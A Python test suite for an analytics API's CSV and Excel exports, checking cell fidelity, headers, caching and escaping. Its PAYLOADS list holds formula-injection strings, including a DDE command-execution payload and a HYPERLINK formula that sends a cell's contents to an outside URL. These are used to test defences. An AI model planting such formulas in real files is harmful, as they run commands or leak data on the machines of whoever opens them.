"""Exports hold what the JSON holds, cell for cell, opened by programs that are not ours."""

import csv
import io
import json
import re
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet

from api.export import CSV, XLSX, Answer, as_xlsx
from api.export.answer import ALWAYS
from api.families.contract import CourseBody, TopMentorBody
from tests.support.answers import ANSWERS
from tests.support.tokens import bearer, sign
from tests.support.world import ADMIN, EMPTY, LEARNER, PYTHON

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

CSV_TYPE = "text/csv; charset=utf-8; header=present"

NOW = datetime(2025, 12, 4, 10, 30, 59, 123456, tzinfo=UTC)

TODAY = NOW.date()

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?"&A1)',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x0b=1+1",
    "\t",
    "\rtext",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "x;=1+1",
    "x; =1+1;y",
    "x\n=1+1",
    "x\r\n=1+1",
    'x";=1+1;"',
    "-",
    "=",
]

HARMLESS = ["Python для начинающих", "a-b", "1+1=2", "C++; C#", "me@example.com", "'=1", "", "5"]

MARKUP = [
    '<r></is></c><c r="Z9"><f>1+1</f></c><c><is><t>x</t></r>',
    "<r><t>x</t></r>",
    "</t></is></c>",
    "&lt;&amp;",
    "<r>_x0041_</r>",
    "<r> _x005F_ \x01_x0041_</r>",
]


def cells(data: bytes) -> list[list[str]]:
    """A CSV file as Python's own reader sees it."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def sheets(data: bytes) -> dict[str, list[tuple[Any, ...]]]:
    """The tables of a workbook, headers included, as openpyxl sees them."""
    return {sheet.title: table(sheet) for sheet in workbook(data).worksheets}


def workbook(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def table(sheet: Worksheet) -> list[tuple[Any, ...]]:
    rows = sheet.iter_rows(min_row=5, values_only=True)
    return [
        tuple(unescape(cell) if isinstance(cell, str) else cell for cell in row) for row in rows
    ]


def expected(place: str, body: dict[str, Any]) -> dict[str, list[tuple[Any, ...]]]:
    """The tables of an answer, with those of its comparison."""
    tables = by_address(place, body)
    if comparison := body.get("comparison"):
        days = [("comparison", name, comparison[name]) for name in ("from", "to")]
        facts = tables.pop("summary", [("section", "name", "value")])
        header = ("metric", "current", "previous", "change", "change_percent")
        metrics = [(m, *(n[k] for k in header[1:])) for m, n in comparison["metrics"].items()]
        tables = {"summary": facts + days, **tables, "comparison": [header, *metrics]}
    return tables


def by_address(place: str, body: dict[str, Any]) -> dict[str, list[tuple[Any, ...]]]:
    """What a person would copy from the JSON into tables, written down address by address."""
    facts: list[tuple[Any, ...]] = [("section", "name", "value")]
    match re.split(r"[?/]", place)[0]:
        case "platform":
            for section in ("users", "sessions", "courses", "reviews", "revenue"):
                facts += [(section, name, value) for name, value in body[section].items()]
            return {"summary": facts}
        case "user-growth":
            rows = [(day["date"], day["new_users"]) for day in body["data"]]
            return {"user_growth": [("date", "new_users"), *rows]}
        case "sessions":
            numbers = body["analytics"]
            facts += [("sessions", n, numbers[n]) for n in ("total", "avg_duration_minutes")]
            mentors = [(top["mentor_id"], top["sessions"]) for top in numbers["top_mentors"]]
            return {
                "summary": facts,
                "by_status": [("status", "value"), *numbers["by_status"].items()],
                "top_mentors": [("mentor_id", "sessions"), *mentors],
            }
        case "revenue":
            numbers = body["analytics"]
            names = ("total_revenue", "transaction_count", "avg_transaction")
            facts += [("revenue", name, numbers[name]) for name in names]
            days = [(day["date"], day["revenue"]) for day in numbers["daily_revenue"]]
            return {"summary": facts, "daily_revenue": [("date", "revenue"), *days]}
        case "courses" if "courses" in body:
            rows = [tuple(course.values()) for course in body["courses"]]
            return {"courses": [tuple(body["courses"][0]), *rows]}
        case family:
            name = family if family == "courses" else "engagement"
            return {name: [tuple(body), tuple(body.values())]}


def long(tables: dict[str, list[tuple[Any, ...]]]) -> list[tuple[Any, ...]]:
    """Several tables one below the other."""
    rows = list(tables.pop("summary"))
    for name, ((_, *columns), *entries) in tables.items():
        for key, *values in entries:
            names = [key] if len(values) == 1 else [f"{key}.{column}" for column in columns]
            rows += [(name, *pair) for pair in zip(names, values, strict=True)]
    return rows


def text(cell: object) -> str:
    return "" if cell is None else "'=1+1" if cell == "=1+1" else str(cell)


def typed(cell: object) -> object:
    """What a spreadsheet keeps of a cell of the JSON."""
    if isinstance(cell, str) and re.match(r"\d{4}-\d\d-\d\d", cell):
        time = datetime.fromisoformat(cell).replace(tzinfo=None)
        # openpyxl reads milliseconds
        return time.replace(microsecond=0) + timedelta(milliseconds=round(time.microsecond / 1000))
    return float(cell) if isinstance(cell, Decimal) else cell


@pytest.mark.parametrize("place", ANSWERS)
def test_a_csv_file_holds_the_json_cell_for_cell(admin: FlaskClient, place: str) -> None:
    path = f"/api/v1/analytics/{place}"
    body = json.loads(admin.get(path).data, parse_float=Decimal)
    data = admin.get(path, headers={"Accept": "text/csv"}).data

    tables = expected(place, body)
    rows = next(iter(tables.values())) if len(tables) == 1 else long(tables)
    assert cells(data) == [[text(cell) for cell in row] for row in rows]


@pytest.mark.parametrize("place", ANSWERS)
def test_a_workbook_holds_the_json_cell_for_cell(admin: FlaskClient, place: str) -> None:
    path = f"/api/v1/analytics/{place}"
    body = json.loads(admin.get(path).data, parse_float=Decimal)
    data = admin.get(path, headers={"Accept": XLSX_TYPE}).data

    found = sheets(data)
    for name, rows in expected(place, body).items():
        header, *entries = found.pop(name)
        assert [header, *entries] == [tuple(typed(cell) for cell in row) for row in rows]
    assert found == {}


@pytest.mark.parametrize("place", ANSWERS)
def test_a_sheet_says_as_of_when_and_of_which_days_it_is(admin: FlaskClient, place: str) -> None:
    response = admin.get(f"/api/v1/analytics/{place}", headers={"Accept": XLSX_TYPE})

    as_of = response.headers["X-Analytics-As-Of"]
    window = response.headers.get("X-Analytics-Window")
    currency = response.headers.get("X-Analytics-Currency")
    for sheet in workbook(response.data).worksheets:
        assert sheet["A1"].value == f"As of {as_of[:16].replace('T', ' ')} UTC"
        assert sheet["A2"].value == (f"Window {window}" if window else "All time")
        assert sheet["A3"].value == (f"Amounts in {currency}" if currency else None)
        assert all(cell.font.bold for cell in sheet[5])
        assert sheet.freeze_panes == "A6"
        for column in sheet.iter_cols(min_row=5, max_row=5):
            assert sheet.column_dimensions[column[0].column_letter].width > len(column[0].value)


@pytest.mark.parametrize(
    ("place", "charts"),
    [
        ("platform", {}),
        ("user-growth", {"user_growth": "barChart"}),
        ("sessions", {"by_status": "barChart"}),
        ("courses", {}),
        ("revenue", {"daily_revenue": "barChart"}),
        ("me/engagement", {}),
    ],
)
def test_what_has_a_course_is_drawn(admin: FlaskClient, place: str, charts: dict[str, str]) -> None:
    data = admin.get(f"/api/v1/analytics/{place}?format=xlsx").data

    drawn = {sheet.title: [c.tagname for c in sheet._charts] for sheet in workbook(data)}  # noqa: SLF001
    assert {name: kinds for name, kinds in drawn.items() if kinds} == {
        name: [kind] for name, kind in charts.items()
    }


def test_a_chart_draws_the_whole_table(admin: FlaskClient) -> None:
    data = admin.get("/api/v1/analytics/user-growth?days=365&format=xlsx").data

    (chart,) = workbook(data)["user_growth"]._charts  # noqa: SLF001
    (series,) = chart.series
    assert series.cat.numRef.f == "user_growth!$A$6:$A$370"
    assert series.val.numRef.f == "user_growth!$B$6:$B$370"


def test_a_sheet_that_would_lack_rows_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(as_xlsx, "MOST_ROWS", 1)
    courses = json.dumps({"courses": [{"course_id": 1}, {"course_id": 2}]})

    with pytest.raises(OverflowError):
        next(XLSX.chunks(Answer("courses", courses, NOW, TODAY)))


def test_numbers_and_times_are_no_text(admin: FlaskClient) -> None:
    sheet = workbook(admin.get("/api/v1/analytics/revenue?format=xlsx").data)["daily_revenue"]
    day, revenue = sheet[6]
    assert (day.data_type, day.number_format) == ("d", "yyyy-mm-dd")
    assert (revenue.data_type, revenue.number_format) == ("n", "#,##0.00")

    book = workbook(admin.get(f"/api/v1/analytics/user/{LEARNER}/engagement?format=xlsx").data)
    kinds = [cell.data_type for cell in book["engagement"][6]]
    assert kinds == ["n", "s", "n", "n", "n", "n", "d", "n"]


def test_a_csv_file_is_opened_by_excel_and_parted_as_rfc_4180_says(admin: FlaskClient) -> None:
    data = admin.get("/api/v1/analytics/courses?format=csv").data

    assert data.startswith(b"\xef\xbb\xbfcourse_id,")
    assert data.endswith(b"\r\n")
    assert data.count(b"\n") == data.count(b"\r\n") == 3
    assert "Python для начинающих".encode() in data


def export(title: str, **columns: object) -> Answer:
    body = json.dumps({"courses": [{"course_id": 1, "course_title": title, **columns}]})
    return Answer("courses", body, NOW, TODAY)


def csv_cell(title: str) -> str:
    return cells(b"".join(CSV.chunks(export(title))))[1][1]


def xlsx_sheet(title: str) -> tuple[Worksheet, str]:
    data = b"".join(XLSX.chunks(export(title)))
    raw = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    return workbook(data)["courses"], raw


def pieces(cell: str) -> Iterator[str]:
    """What cells a spreadsheet may make of one, whatever it takes to part them."""
    for piece in re.split(r"[;\t\r\n]", cell):
        yield re.sub(r"^[\s\x00-\x1f\x7f\u200b\ufeff]+", "", piece)


FORMULA = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\u2212")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_csv_file_runs_as_a_formula(payload: str) -> None:
    cell = csv_cell(payload)

    assert cell.startswith(("'", "x"))
    assert not any(piece.startswith(FORMULA) for piece in pieces(cell))
    assert cell.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("title", HARMLESS)
def test_harmless_text_is_left_as_it_is(title: str) -> None:
    assert csv_cell(title) == title


@pytest.mark.parametrize("title", [*PAYLOADS, *HARMLESS, *MARKUP])
def test_no_cell_of_a_workbook_runs_as_a_formula(title: str) -> None:
    sheet, raw = xlsx_sheet(title)

    assert "<f>" not in raw
    assert sheet.dimensions == "A1:B6"
    assert unescape(sheet["B6"].value or "") == title
    assert sheet["B6"].data_type == "s"
    assert sheet["B6"].quotePrefix, "it would become a formula when somebody edits it"


@pytest.mark.parametrize("title", ["<r>_x0041_</r>", "_x0041_", "<r>_x0041_", "<r>x</r>_x0041_"])
def test_text_is_escaped_once(title: str) -> None:
    _, raw = xlsx_sheet(title)

    escaped = title.replace("_x0041_", "_x005F_x0041_").replace("<", "&lt;").replace(">", "&gt;")
    assert f"<t>{escaped}</t>" in raw


@pytest.mark.parametrize("sign", [1, -1])
@pytest.mark.parametrize("number", [0, 12, 2**53 - 1, 2**53, 2**53 + 1, 2**62 + 1, 2**63 - 1])
def test_a_workbook_holds_every_id_exactly(number: int, sign: int) -> None:
    body = json.dumps({"courses": [{"course_id": sign * number}]})
    answer = Answer("courses", body, NOW, TODAY)

    ((cell,),) = sheets(b"".join(XLSX.chunks(answer)))["courses"][1:]
    assert int(cell) == sign * number
    assert isinstance(cell, str) == (number in {2**53 + 1, 2**62 + 1, 2**63 - 1})


@pytest.mark.parametrize(
    "amount", ["0.10", "999999999999.99", "90071992547409.93", "123456789012345678.90"]
)
def test_a_workbook_holds_every_amount_exactly(amount: str) -> None:
    answer = Answer("revenue", f'{{"total": {amount}}}', NOW, TODAY)

    (cell,) = sheets(b"".join(XLSX.chunks(answer)))["revenue"][1]
    assert cell == (amount if isinstance(cell, str) else float(amount))
    assert Decimal(str(cell)) == Decimal(amount)


def test_a_hyperlink_stays_text() -> None:
    sheet, raw = xlsx_sheet("https://example.com")

    assert "hyperlink" not in raw
    assert sheet["B6"].hyperlink is None


def test_a_negative_number_stays_a_number() -> None:
    answer = export("x", change=-5, percent=Decimal("-12.50").__float__())

    assert cells(b"".join(CSV.chunks(answer)))[1] == ["1", "x", "-5", "-12.5"]
    assert [cell.value for cell in workbook(b"".join(XLSX.chunks(answer)))["courses"][6]] == [
        1,
        "x",
        -5,
        -12.5,
    ]


# what PostgreSQL can store and JSON carry: no NUL, no half of a pair
stored = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=50)
awkward = st.text(st.sampled_from("=+-@;,'\"\t\r\n\x0b\x1f <>r/_x0041\uff1d\ufeffя"), max_size=12)


@given(stored | awkward)
def test_text_comes_back_out_of_a_csv_file(title: str) -> None:
    cell = csv_cell(title)

    assert cell.replace("'", "") == title.replace("'", "")
    assert not any(piece.startswith(FORMULA) for piece in pieces(cell))


@given(stored | awkward)
def test_text_comes_back_out_of_a_workbook(title: str) -> None:
    data = b"".join(XLSX.chunks(export(title)))
    raw = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")

    ns = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    cell = ET.fromstring(raw).find(".//x:c[@r='B6']", ns)  # noqa: S314 - our own file
    assert cell is not None
    found = "".join(node.text or "" for node in cell.iterfind(".//x:t", ns))
    assert unescape(found).replace("\ufffe", "").replace("\uffff", "") == title.replace(
        "\ufffe", ""
    ).replace("\uffff", "")


@pytest.mark.parametrize("place", ANSWERS)
@pytest.mark.parametrize(("name", "kind"), [("csv", CSV_TYPE), ("xlsx", XLSX_TYPE)])
def test_a_file_has_the_headers_of_the_json_and_a_name(
    admin: FlaskClient, place: str, name: str, kind: str
) -> None:
    path = f"/api/v1/analytics/{place}"
    plain = admin.get(path).headers
    headers = admin.get(path, headers={"Accept": kind}).headers

    assert headers["Content-Type"] == kind
    assert headers["Content-Disposition"].startswith("attachment; filename=")
    assert headers["Content-Disposition"].endswith(f".{name}")
    own = {"Content-Type", "Content-Length", "Content-Disposition", "ETag"}
    assert {k: v for k, v in headers.items() if k not in own} == {
        k: v for k, v in plain.items() if k not in own
    }


@pytest.mark.parametrize(
    ("place", "name"),
    [
        ("platform", "platform-RUB_DAY.csv"),
        ("revenue?days=1&currency=USD", "revenue-USD_DAY_DAY.csv"),
        ("user-growth?days=1", "user-growth_DAY_DAY.csv"),
        ("courses", "courses_DAY.csv"),
        (f"courses?course_id={PYTHON}", f"courses-{PYTHON}_DAY.csv"),
        (f"user/{LEARNER}/engagement", f"engagement-{LEARNER}_DAY.csv"),
    ],
)
def test_a_file_is_called_by_what_it_holds(admin: FlaskClient, place: str, name: str) -> None:
    headers = admin.get(f"/api/v1/analytics/{place}", headers={"Accept": "text/csv"}).headers

    day = headers["X-Analytics-As-Of"][:10]
    expected_name = name.replace("DAY", day)
    assert headers["Content-Disposition"] == f"attachment; filename={expected_name}"


def test_a_window_is_in_the_name() -> None:
    answer = Answer(
        "user_growth", '{"data": []}', NOW, TODAY, "2025-11-05/2025-12-04 Europe/Moscow"
    )

    name = "user-growth_2025-11-05_2025-12-04.xlsx"
    assert XLSX.headers(answer)["Content-Disposition"] == f"attachment; filename={name}"


@pytest.mark.parametrize("place", ["platform", "sessions", "courses", "me/engagement"])
def test_every_format_has_a_tag_of_its_own_and_304(admin: FlaskClient, place: str) -> None:
    path = f"/api/v1/analytics/{place}"
    tags = {name: admin.get(f"{path}?format={name}").headers["ETag"] for name in NAMES}

    assert len(set(tags.values())) == len(NAMES)
    assert tags["json"] == admin.get(path).headers["ETag"]
    for name, tag in tags.items():
        for known, status in [(t, 304 if t == tag else 200) for t in tags.values()]:
            response = admin.get(f"{path}?format={name}", headers={"If-None-Match": known})
            assert response.status_code == status
            assert response.headers["ETag"] == tag
            assert (status == 304) == (response.data == b"")


NAMES = ("json", "csv", "xlsx")


def test_equal_tags_are_equal_bytes() -> None:
    body = '{"users": {"total": 3}}'
    later, next_minute = NOW.replace(second=1), NOW.replace(minute=31)
    for kind in (CSV, XLSX):
        one, same, other = (
            Answer("platform", body, at, at.date()) for at in (NOW, later, next_minute)
        )
        assert kind.tag(one) == kind.tag(same)
        assert b"".join(kind.chunks(one)) == b"".join(kind.chunks(same))
        equal = b"".join(kind.chunks(one)) == b"".join(kind.chunks(other))
        assert equal == (kind.tag(one) == kind.tag(other))


@pytest.mark.parametrize(
    ("accept", "query", "kind"),
    [
        ("text/csv", "", CSV_TYPE),
        ("TEXT/CSV; charset=utf-8", "", CSV_TYPE),
        (XLSX_TYPE, "", XLSX_TYPE),
        ("text/*", "", CSV_TYPE),
        ("*/*", "", "application/json"),
        ("application/*", "", "application/json"),
        ("text/csv, */*", "", CSV_TYPE),
        ("text/csv;q=0.5, */*;q=0.1", "", CSV_TYPE),
        ("text/csv;q=0.5, application/json", "", "application/json"),
        (f"text/csv;q=0.5, {XLSX_TYPE};q=0.6", "", XLSX_TYPE),
        ("application/json;q=0, application/*", "", XLSX_TYPE),
        ("text/csv;q=0, */*", "", "application/json"),
        ("text/csv", "?format=json", "application/json"),
        ("application/json", "?format=csv", CSV_TYPE),
        ("text/html", "?format=xlsx", XLSX_TYPE),
        ("text/csv;q=0", "?format=csv", CSV_TYPE),
    ],
)
def test_format_decides_and_otherwise_what_is_liked_best(
    admin: FlaskClient, accept: str, query: str, kind: str
) -> None:
    path = f"/api/v1/analytics/platform{query}"

    assert admin.get(path, headers={"Accept": accept}).content_type == kind


def test_a_learner_may_export_no_more_than_read(client: FlaskClient) -> None:
    headers = bearer(sign(LEARNER))
    for name in ("csv", "xlsx"):
        path = "/api/v1/analytics/{}?format=" + name
        assert client.get(path.format("platform"), headers=headers).status_code == 403
        assert client.get(path.format("user/1/engagement"), headers=headers).status_code == 403
        assert client.get(path.format("me/engagement"), headers=headers).status_code == 200
        assert client.get(path.format("me/engagement")).status_code == 401


@pytest.mark.parametrize("name", ["csv", "xlsx"])
def test_head_of_a_file_has_the_headers_and_no_body(admin: FlaskClient, name: str) -> None:
    path = f"/api/v1/analytics/courses?format={name}"
    head, get = (admin.open(path, method=method) for method in ("HEAD", "GET"))

    assert (head.status_code, head.data) == (200, b"")
    assert head.headers == get.headers


@pytest.mark.parametrize("kind", [CSV, XLSX])
def test_many_courses_are_sent_in_pieces_and_leave_no_file_behind(
    kind: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    courses = [{"course_id": n, "course_title": f"Python {n * n}", "x": n} for n in range(5_000)]
    answer = Answer("courses", json.dumps({"courses": courses}), NOW, TODAY)

    sizes = [len(piece) for piece in kind.chunks(answer)]
    assert len(sizes) > 1
    assert max(sizes) < 256 * 1024

    half_sent = kind.chunks(answer)
    next(half_sent)
    assert list(tmp_path.iterdir()) == [], "not even while it is sent"
    half_sent.close()
    assert list(tmp_path.iterdir()) == []


def test_a_client_that_goes_away_ends_the_file(
    app: Flask, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    path = "/api/v1/analytics/courses?format=xlsx"
    response = FlaskClient(app).get(path, headers=bearer(sign(ADMIN)))
    assert next(response.iter_encoded()).startswith(b"PK")
    response.close()

    assert list(tmp_path.iterdir()) == []


def test_a_list_without_entries_still_has_its_header() -> None:
    answer = Answer("courses", '{"courses": []}', NOW, TODAY)
    header = list(CourseBody().fields)
    assert cells(b"".join(CSV.chunks(answer))) == [header]
    assert sheets(b"".join(XLSX.chunks(answer))) == {"courses": [tuple(header)]}

    empty = Answer("sessions", '{"analytics": {"total": 0, "top_mentors": []}}', NOW, TODAY)
    assert cells(b"".join(CSV.chunks(empty)))[1:] == [["sessions", "total", "0"]]
    assert sheets(b"".join(XLSX.chunks(empty)))["top_mentors"] == [tuple(TopMentorBody().fields)]
    assert set(ALWAYS) == {"courses", "top_mentors"}


def test_a_comparison_is_one_more_section() -> None:
    body = {
        "period_days": 1,
        "data": [{"date": "2025-12-04", "new_users": 3}],
        "comparison": {
            "from": "2025-12-03",
            "metrics": {"new_users": {"previous": 0, "change": 3, "change_percent": None}},
        },
    }
    answer = Answer("user_growth", json.dumps(body), NOW, TODAY, "2025-12-04/2025-12-04 UTC")

    facts = [
        ["comparison", "from", "2025-12-03"],
        ["comparison", "new_users.previous", "0"],
        ["comparison", "new_users.change", "3"],
        ["comparison", "new_users.change_percent", ""],
    ]
    assert cells(b"".join(CSV.chunks(answer))) == [
        ["section", "name", "value"],
        facts[0],
        ["user_growth", "2025-12-04", "3"],
        *facts[1:],
    ]
    found = sheets(b"".join(XLSX.chunks(answer)))
    assert list(found) == ["summary", "user_growth", "comparison"]
    assert found["comparison"] == [
        ("metric", "previous", "change", "change_percent"),
        ("new_users", 0, 3, None),
    ]
    assert found["summary"][1] == ("comparison", "from", datetime(2025, 12, 3))  # noqa: DTZ001


@pytest.mark.parametrize("moment", ["infinity", "0044-03-15T00:00:00+00:00 BC", "1812-09-07"])
def test_a_time_that_excel_does_not_know_stays_text(moment: str) -> None:
    answer = Answer("engagement", json.dumps({"user_id": 1, "last_activity": moment}), NOW, TODAY)

    assert sheets(b"".join(XLSX.chunks(answer)))["engagement"][1] == (1, moment)


def test_a_page_is_exported_as_a_page_and_leads_to_the_next(admin: FlaskClient) -> None:
    path = "/api/v1/analytics/courses?limit=1&format=csv"
    first = admin.get(path)
    following = re.findall(r'<(\?[^>]*)>; rel="next"', first.headers["Link"])

    second = admin.get(f"/api/v1/analytics/courses{following[0]}")
    assert [row[0] for row in cells(first.data)] == ["course_id", str(PYTHON)]
    assert [row[0] for row in cells(second.data)] == ["course_id", str(EMPTY)]


def test_what_is_no_answer_has_no_formats(admin: FlaskClient) -> None:
    assert admin.get("/api/v1/analytics/stream?format=csv").status_code == 422
